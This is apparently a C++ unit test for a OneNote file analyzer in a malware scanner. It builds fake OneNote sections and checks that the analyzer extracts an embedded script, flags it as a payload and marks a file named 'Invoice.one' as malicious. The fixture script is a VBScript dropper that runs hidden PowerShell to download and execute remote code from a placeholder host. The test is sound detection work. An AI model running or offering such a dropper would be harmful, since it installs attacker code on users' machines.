// OneNoteAnalyzer on sections written here: the OneNote file GUID, then FileDataStoreObjects
// ([MS-ONESTORE] 2.6.13) holding a picture and a script; damaged objects; and the engine run.
#include "analyzers/onenote/onenote_analyzer.h"

#include <gtest/gtest.h>

#include "core/file_type.h"
#include "core/hash.h"
#include "core/testing/recording_context.h"
#include "engine/testing/scan_testing.h"

namespace lg {
namespace {

using lg::testing::RecordingContext;

const std::string kFileGuid("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
const std::string kHeader("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
const std::string kFooter("\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24", 16);

std::string le64(std::uint64_t v) {
  std::string s(8, '\0');
  for (int i = 0; i < 8; ++i) s[i] = static_cast<char>(v >> (8 * i));
  return s;
}

// guidHeader, cbLength, unused, reserved, FileData padded to 8, guidFooter.
std::string file_data_store_object(const std::string& data, bool footer = true) {
  std::string o = kHeader + le64(data.size()) + std::string(4 + 8, '\0') + data;
  o.append((8 - data.size() % 8) % 8, '\0');
  if (footer) o += kFooter;
  return o;
}

std::string section(const std::vector<std::string>& objects) {
  std::string s = kFileGuid + std::string(0x400 - 16, '\0');  // header and node lists
  for (const auto& o : objects) s += o + std::string(24, '\0');
  return s;
}

const std::string kScript =
    "Set shell = CreateObject(\"WScript.Shell\")\r\n"
    "shell.Run \"powershell -w hidden -c iwr https://cdn.example/a.ps1 | iex\", 0\r\n";

std::string png() {
  return std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) + std::string(40, 'p');
}

TEST(OneNoteAnalyzer, EmbeddedScriptIsAPayload) {
  ASSERT_TRUE(file_type_is_script(identify(as_bytes(kScript))));
  const std::string one = section({file_data_store_object(png()), file_data_store_object(kScript)});
  ASSERT_EQ(identify(as_bytes(one)), FileType::kOneNote);
  RecordingContext ctx;
  OneNoteAnalyzer a;
  ASSERT_TRUE(a.analyze(as_bytes(one), ctx).is_ok());
  EXPECT_TRUE(ctx.anomalies.empty()) << ctx.anomalies.front();
  EXPECT_EQ(ctx.num("embedded_files"), 2);
  ASSERT_EQ(ctx.children.size(), 2u);
  EXPECT_EQ(to_string(ctx.children[0].data), png());
  EXPECT_EQ(ctx.children[1].info.name, "embedded-2");
  EXPECT_EQ(to_string(ctx.children[1].data), kScript);
  ASSERT_EQ(ctx.findings.size(), 1u);
  EXPECT_EQ(ctx.findings[0].symbol, Symbol::ONENOTE_EMBEDDED_PAYLOAD);
  EXPECT_EQ(ctx.findings[0].evidence.value, "embedded-2");
}

TEST(OneNoteAnalyzer, PicturesOnlyAreQuiet) {
  RecordingContext ctx;
  OneNoteAnalyzer a;
  ASSERT_TRUE(a.analyze(as_bytes(section({file_data_store_object(png())})), ctx).is_ok());
  EXPECT_EQ(ctx.children.size(), 1u);
  EXPECT_TRUE(ctx.findings.empty());
}

TEST(OneNoteAnalyzer, DamagedObjectsAreAnomalies) {
  // No footer: still delivered. Length past the end: skipped. Header at the very end: stop.
  std::string one = section({file_data_store_object(kScript, false)});
  one += kHeader + le64(1ull << 40) + std::string(12, '\0') + "short";
  one += kHeader.substr(0, 16) + "\x01";
  RecordingContext ctx;
  OneNoteAnalyzer a;
  ASSERT_TRUE(a.analyze(as_bytes(one), ctx).is_ok());
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(to_string(ctx.children[0].data), kScript);
  EXPECT_EQ(ctx.anomalies.size(), 3u);
}

TEST(OneNoteAnalyzer, ThroughTheEngine) {
  const std::string one = section({file_data_store_object(kScript)});
  Report r = lg::testing::scan_bytes("Invoice.one", one);
  EXPECT_TRUE(lg::testing::has_descendant(r, sha256_hex(as_bytes(kScript))));
  EXPECT_NE(lg::testing::find_symbol(r, "ONENOTE_EMBEDDED_PAYLOAD"), nullptr);
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

}  // namespace
}  // namespace lg
